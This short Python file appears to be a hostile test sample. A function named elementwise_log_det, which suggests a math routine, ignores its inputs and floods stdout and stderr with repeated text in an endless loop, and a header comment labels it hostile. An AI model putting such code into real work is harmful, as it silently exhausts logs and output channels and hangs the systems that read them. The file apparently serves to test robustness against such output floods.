# Hostile: elementwise_log_det floods stdout and stderr without end.
import os
import sys


def elementwise_log_det(x, a):
    chunk = "flood " * 10000
    while True:
        sys.stdout.write(chunk)
        sys.stderr.write(chunk)
        os.write(1, chunk.encode())
